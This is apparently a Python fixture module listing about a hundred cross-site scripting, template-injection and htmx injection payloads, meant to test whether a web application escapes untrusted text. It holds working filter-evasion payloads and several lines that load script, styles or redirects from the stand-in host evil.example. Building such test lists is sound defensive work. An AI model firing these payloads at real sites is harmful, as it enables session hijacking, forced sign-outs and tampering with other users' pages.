"""A hundred texts that would run a script, or bring htmx to life, wherever somebody forgot to escape them."""

_RUNS = "alert(1)"
_ELEMENTS = [
    f"<script>{_RUNS}</script>", f"<SCRIPT>{_RUNS}</SCRIPT>", f"<script\t>{_RUNS}</script >", f"<scr<script>ipt>{_RUNS}</script>",
    "<script src=//evil.example/x.js></script>", "<script src=data:,alert(1)></script>", f"<script type=module>{_RUNS}</script>",
    f"<img src=x onerror={_RUNS}>", f"<img src=x onerror='{_RUNS}'>", f'<img/src="x"/onerror="{_RUNS}">', f"<image src=x onerror={_RUNS}>",
    f"<svg onload={_RUNS}>", f"<svg/onload={_RUNS}>", f"<svg><script>{_RUNS}</script></svg>", f"<svg><animate onbegin={_RUNS} attributeName=x>",
    f"<svg><a xlink:href='javascript:{_RUNS}'><text y=9>x</text></a></svg>", f"<math><mtext></form><form><mglyph><style></math><img src onerror={_RUNS}>",
    f"<body onload={_RUNS}>", f"<iframe srcdoc='<script>{_RUNS}</script>'></iframe>", f"<iframe src=javascript:{_RUNS}></iframe>",
    f"<object data=javascript:{_RUNS}></object>", f"<embed src=javascript:{_RUNS}>", f"<a href=javascript:{_RUNS}>x</a>",
    f"<a href='java&#09;script:{_RUNS}'>x</a>", f"<form action=javascript:{_RUNS}><button>x</button></form>", f"<button formaction=javascript:{_RUNS}>x",
    f"<input autofocus onfocus={_RUNS}>", f"<select autofocus onfocus={_RUNS}>", f"<textarea autofocus onfocus={_RUNS}>",
    f"<details open ontoggle={_RUNS}>", f"<video src=x onerror={_RUNS}>", f"<audio src=x onerror={_RUNS}>", f"<video><source onerror={_RUNS}>",
    f"<marquee onstart={_RUNS}>", f"<div onpointerenter={_RUNS}>x</div>", f"<style onload={_RUNS}></style>", "<style>@import '//evil.example'</style>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<meta http-equiv=refresh content='0;url=//evil.example'>", "<base href=//evil.example/>",
    f"<template><script>{_RUNS}</script></template>", f"<noscript><p title='</noscript><img src=x onerror={_RUNS}>'>",
    f"<xss style=animation-name:x onanimationstart={_RUNS}>", f"<dialog open onclose={_RUNS}>", "<plaintext>", "<!--", "-->", "<![CDATA[", "]]>",
]  # fmt: skip
_OUT_OF = [
    f"\"><script>{_RUNS}</script>", f"'><script>{_RUNS}</script>", f"\" onmouseover=\"{_RUNS}", f"' onmouseover='{_RUNS}", f"` onmouseover={_RUNS}",
    f"\" autofocus onfocus={_RUNS} x=\"", f"\" style=\"background:url(javascript:{_RUNS})", f"</title><script>{_RUNS}</script>",
    f"</textarea><script>{_RUNS}</script>", f"</script><script>{_RUNS}</script>", f"</style><script>{_RUNS}</script>",
    f"</option></select><img src=x onerror={_RUNS}>", f"</button><img src=x onerror={_RUNS}>", f"</a><img src=x onerror={_RUNS}>",
    f"--><script>{_RUNS}</script>", f"*/{_RUNS}/*", f"';{_RUNS}//", f"\";{_RUNS}//", f"\\';{_RUNS}//", "${alert(1)}", "`${alert(1)}`",
]  # fmt: skip
_CODED = [
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "&#x3c;script&#x3e;alert(1)", "&lt;img src=x onerror=alert(1)&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E", "%253Cscript%253Ealert(1)", "\\u003cscript\\u003ealert(1)", "\\x3cscript\\x3ealert(1)",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "\u02bcscript\u02bc", "+ADw-script+AD4-alert(1)", "\u2028alert(1)", "\ufeff<script>alert(1)</script>",
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:x", "&", "&amp;", "<", ">", '"', "'", "`", "=",
]  # fmt: skip
_OF_TEMPLATES_AND_HTMX = [
    "{{ 7 * 7 }}", "{% raw %}", "{{ config }}", "{{ ''.__class__.__mro__ }}", "{# x #}", "#{7*7}", "<%= 7 * 7 %>", "{{constructor.constructor('alert(1)')()}}",
    "<div hx-get=/dashboard hx-trigger=load>", "<div data-hx-get=/dashboard data-hx-trigger=load>", "<div hx-on:click=alert(1)>", "\" data-hx-get=\"/x\" data-hx-trigger=\"load",
    "<form hx-post=/sign-out hx-trigger=load>", "<div hx-swap-oob=true id=balance>0", "<hx-partial hx-target=#balance>0", "\"},\"credits\":\"9",
]  # fmt: skip

SCRIPTS = [*_ELEMENTS, *_OUT_OF, *_CODED, *_OF_TEMPLATES_AND_HTMX]
